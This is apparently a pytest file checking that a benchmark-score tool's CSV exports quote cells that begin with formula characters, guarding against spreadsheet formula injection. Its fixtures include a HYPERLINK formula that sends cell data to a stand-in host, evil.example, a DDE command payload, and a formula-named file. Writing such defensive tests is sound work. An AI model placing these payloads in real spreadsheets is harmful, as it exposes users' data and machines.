"""CSV exports never carry a live spreadsheet formula (issue 8, defect 13): text cells starting with = + - @
(or a tab / carriage return) get OWASP's leading quote, in the CLI and in every page download; numbers stay."""
from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pandas as pd

from lib import cli
from lib.ingest.importer import ingest
from lib.render.safe_text import csv_cell, csv_safe, csv_text
from lib.store import Store

ROOT = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


def test_csv_cell_rule():
    cases = {EVIL: "'" + EVIL, "+1+cmd": "'+1+cmd", "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
             "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\r=1", "gpt-4o": "gpt-4o", "a=b": "a=b",
             "-1": "-1", "+2.5": "+2.5", "-3.5e2": "-3.5e2", "": "", "-": "'-"}
    assert {k: csv_cell(k) for k in cases} == cases
    assert [csv_cell(v) for v in (-1, -1.5, None, True)] == [-1, -1.5, None, True]


def test_csv_safe_frame_keeps_numbers_and_nulls():
    df = pd.DataFrame({"model": [EVIL, "ok", None], "score": [-1.0, 2.5, float("nan")], "n": [-3, 0, 1]})
    df[EVIL] = [1, 2, 3]  # a pivoted table names columns after data
    out = list(csv.reader(io.StringIO(csv_text(df))))
    assert out == [["model", "score", "n", "'" + EVIL], ["'" + EVIL, "-1.0", "-3", "1"], ["ok", "2.5", "0", "2"],
                   ["", "", "1", "3"]]
    assert df["model"].tolist()[0] == EVIL  # the caller's frame is not changed
    assert csv_safe(df)["score"].dtype == df["score"].dtype


def evil_store(tmp_path: Path) -> Path:
    folder = tmp_path / "b" / "model_judgment"
    folder.mkdir(parents=True)
    lines = [{"question_id": q, "model": EVIL if q % 2 else "-m", "judge": ["@judge", "single-v1"], "score": 5,
              "turn": 1, "judgment": "Rating: [[5]]"} for q in (1, 2, 3, 4)]
    (folder / "=1+2_single.jsonl").write_text("".join(json.dumps(r) + "\n" for r in lines))
    db = tmp_path / "x.duckdb"
    with Store(db) as s:
        ingest(s, [tmp_path / "b"])
    return db


def test_cli_csv_outputs_are_inert(tmp_path, capsys):
    db = evil_store(tmp_path)
    assert cli.main(["scores", "--db", str(db), "--format", "csv", "--by", "judge,model"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert sorted((r["judge"], r["model"]) for r in rows) == sorted([("'@judge", "'" + EVIL), ("'@judge", "'-m")])
    assert cli.main(["sources", "--db", str(db), "--format", "csv"]) == 0
    (source,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
    assert source["file_name"] == "'=1+2_single.jsonl"
    # every CSV writer of the CLI and the pages goes through csv_text
    for path in [*ROOT.joinpath("lib", "cli").glob("*.py"), *ROOT.joinpath("app_pages").glob("*.py")]:
        assert not re.search(r"\.to_csv\(", path.read_text(encoding="utf-8")), path
